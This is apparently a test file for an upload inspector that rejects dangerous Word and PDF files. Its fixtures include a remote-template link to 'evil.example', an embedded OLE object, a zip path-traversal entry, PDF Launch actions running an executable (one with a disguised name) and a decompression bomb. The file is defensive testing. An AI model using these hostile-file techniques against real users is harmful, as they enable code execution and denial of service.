import { deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { expect, test } from 'vitest'
import { writeBase } from '#paper/pdf/write-base.ts'
import { blank, blankIds } from '../../../../../tests/setup/blanks.ts'
import { inspectUpload } from './inspect-upload.ts'

const TEMPLATE =
  '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
const word = (parts: Record<string, string> = {}) => {
  const all = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...parts }
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(all).map(([name, text]) => [name, strToU8(text)]))))
}

test('what opens something else is refused as an upload, whatever call brings it', () => {
  const refusal = (parts: Record<string, string>) => {
    try {
      inspectUpload('docx', word(parts))
      return undefined
    } catch (error) {
      const { name, code } = error as { name: string; code: string }
      return [name, code]
    }
  }
  expect(refusal({})).toBeUndefined()
  expect(refusal({ 'word/_rels/settings.xml.rels': TEMPLATE })).toEqual(['UploadRefused', 'FILE_OUTSIDE'])
  expect(refusal({ 'word/embeddings/oleObject1.bin': 'x' })).toEqual(['UploadRefused', 'FILE_MACROS'])
  expect(refusal({ '../../evil.txt': 'x' })).toEqual(['UploadRefused', 'FILE_CONTENT'])
})

const pdf = (action: string, packed: boolean) => {
  const objects = [
    { object: 1, text: `<</Type/Catalog/Pages 2 0 R${action}>>` },
    { object: 2, text: '<</Type/Pages/Kids[3 0 R]/Count 1>>' },
    { object: 3, text: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>' },
  ]
  if (packed) return Buffer.from(writeBase(objects, '/Root 1 0 R').pdf)
  return Buffer.from(
    `%PDF-1.7\n${objects.map(({ object, text }) => `${object} 0 obj\n${text}\nendobj\n`).join('')}%%EOF`,
  )
}

test('a PDF that starts a program or brings files along is refused, also packed and with its names disguised', () => {
  const codeOf = (action: string, packed: boolean) => {
    try {
      inspectUpload('pdf', pdf(action, packed))
      return undefined
    } catch (error) {
      return (error as { code: string }).code
    }
  }
  for (const packed of [false, true]) {
    expect(codeOf('', packed)).toBeUndefined()
    // The agencies' forms are full of scripts, and an XFA form keeps its parts as embedded files.
    expect(codeOf('/OpenAction<</S/JavaScript/JS(1)>>/X<</Type/EmbeddedFile>>', packed)).toBeUndefined()
    expect(codeOf('/OpenAction<</S/Launch/F(x.exe)>>', packed)).toBe('FILE_ACTIVE')
    expect(codeOf('/OpenAction<</S/L#61unch/F(x.exe)>>', packed)).toBe('FILE_ACTIVE')
    expect(codeOf('/Names<</EmbeddedFiles<<>>>>', packed)).toBe('FILE_ACTIVE')
  }
})

test('every official form is taken as a document, scripts and all', async () => {
  expect(blankIds.length).toBeGreaterThan(5)
  for (const id of blankIds) {
    const form = Buffer.from(await blank(id))
    expect(() => inspectUpload('pdf', form), id).not.toThrow()
  }
})

test('a PDF made to keep the inspection busy is refused, or read once', () => {
  const bomb = deflateSync(Buffer.alloc(70 * 1024 * 1024))
  const packed = Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj\n<</Type/ObjStm>>stream\n'), bomb])
  expect(() => inspectUpload('pdf', packed)).toThrow('This PDF unpacks to more than 64 MB.')
  expect(() => inspectUpload('pdf', Buffer.from('/ObjStm stream\n'.repeat(3000)))).toThrow('streams of objects')
  const began = performance.now()
  inspectUpload('pdf', Buffer.from('/ObjStm'.repeat(1_000_000)))
  expect(performance.now() - began).toBeLessThan(2000)
})
